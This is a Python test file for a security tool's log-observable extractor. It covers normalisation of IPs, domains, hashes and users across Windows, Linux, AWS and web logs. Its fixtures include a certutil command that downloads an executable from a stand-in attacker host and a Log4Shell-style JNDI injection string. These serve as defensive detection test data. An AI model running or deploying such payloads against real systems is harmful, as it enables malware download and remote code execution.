"""What an event names is found by table, normalised and bounded."""

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from aegis.core.incidents import LogSource, Observable
from aegis.incidents.observables import PER_EVENT_MAX, normalise, observables_of

WINDOWS = LogSource("windows", "process_creation", "sysmon")
LINUX = LogSource("linux", "", "sshd")
AWS = LogSource("aws", "", "cloudtrail")
WEB = LogSource("", "webserver", "")


def named(fields: dict[str, Any], logsource: LogSource) -> set[tuple[str, str]]:
    return {(found.kind, found.value) for found in observables_of(fields, logsource)}


@pytest.mark.parametrize(
    ("fields", "logsource", "expected"),
    [
        (
            {"source_ip": "203.0.113.66", "user": "deploy", "host": "Bastion-1"},
            LINUX,
            {("ip", "203.0.113.66"), ("user", "deploy"), ("host", "bastion-1")},
        ),
        (
            {
                "sourceIPAddress": "203.0.113.66",
                "userIdentity": {"arn": "arn:aws:iam::210987654321:user/deploy", "accessKeyId": "AKIAX"},
                "recipientAccountId": "210987654321",
            },
            AWS,
            {
                ("ip", "203.0.113.66"),
                ("user", "arn:aws:iam::210987654321:user/deploy"),
                ("key", "AKIAX"),
                ("account", "210987654321"),
            },
        ),
        ({"sourceIPAddress": "cloudtrail.amazonaws.com", "userIdentity": {}}, AWS, set()),
        (
            {"Computer": "WS7.corp.example", "SubjectUserName": "Bob", "SubjectDomainName": "CORP", "IpAddress": "::ffff:10.0.0.9"},
            WINDOWS,
            {("host", "ws7.corp.example"), ("user", "corp\\bob"), ("ip", "10.0.0.9")},
        ),
        ({"User": "NT AUTHORITY\\SYSTEM", "Computer": "WS7"}, WINDOWS, {("host", "ws7")}),
        (
            {"User": "CORP\\Bob", "Hashes": "SHA1=" + "A" * 40 + ",MD5=" + "b" * 32 + ",IMPHASH=" + "c" * 32},
            WINDOWS,
            {("user", "corp\\bob"), ("file_hash", "a" * 40)},
        ),
        (
            {"CommandLine": "certutil -urlcache -f http://Evil.example:8080/a.exe, 203.0.113.9 version 10.0.19041.1"},
            WINDOWS,
            {("url", "http://Evil.example:8080/a.exe"), ("domain", "evil.example"), ("ip", "203.0.113.9")},
        ),
        (
            {"c-ip": "203.0.113.66", "cs-user-agent": "${jndi:ldap://203.0.113.99:1389/a}"},
            WEB,
            {("ip", "203.0.113.66"), ("url", "ldap://203.0.113.99:1389/a"), ("ip", "203.0.113.99")},
        ),
        ({"key_id": "key_ci", "source_ip": "203.0.113.9"}, LogSource("aegis", "", "model_usage"), {("key", "key_ci"), ("ip", "203.0.113.9")}),
    ],
)  # fmt: skip
def test_each_log_source_names_its_own(
    fields: dict[str, Any], logsource: LogSource, expected: set[tuple[str, str]]
) -> None:
    assert named(fields, logsource) == expected


@pytest.mark.parametrize(
    ("kind", "text", "value"),
    [
        ("ip", "[2001:DB8::0009]", "2001:db8::9"),
        ("ip", "fe80::1%eth0", "fe80::1"),
        ("domain", "WWW.Example.COM.", "www.example.com"),
        ("file_hash", "A" * 64, "a" * 64),
        ("email", "Bob@Example.COM", "bob@example.com"),
        ("host", "WS7$", "ws7"),
    ],
)
def test_spellings_become_one(kind: Any, text: str, value: str) -> None:
    assert normalise(kind, text) == Observable(kind, value)


@pytest.mark.parametrize(
    ("kind", "text"),
    [("ip", "127.0.0.1"), ("ip", "0.0.0.0"), ("ip", "-"), ("ip", "10.0.0.300"), ("domain", "localhost"), ("domain", "1.2.3.4"),
     ("file_hash", "abc"), ("user", "-"), ("user", ""), ("user", "a\x1b[31m"), ("user", "x" * 300), ("host", "$")],
)  # fmt: skip
def test_what_names_nothing_is_left_out(kind: Any, text: str) -> None:
    assert normalise(kind, text) is None


def test_a_crafted_event_cannot_flood() -> None:
    text = " ".join(f"http://host{n}.example/x" for n in range(5_000))
    assert len(observables_of({"CommandLine": text}, WINDOWS)) == PER_EVENT_MAX


@given(st.dictionaries(st.sampled_from(["User", "Hashes", "IpAddress", "CommandLine", "Computer", "QueryName"]),
                       st.none() | st.text(max_size=80) | st.integers() | st.lists(st.text(max_size=3)) | st.booleans()))  # fmt: skip
def test_no_value_whatever_raises(fields: dict[str, Any]) -> None:
    for found in observables_of(fields, WINDOWS):
        assert found.value.isprintable()
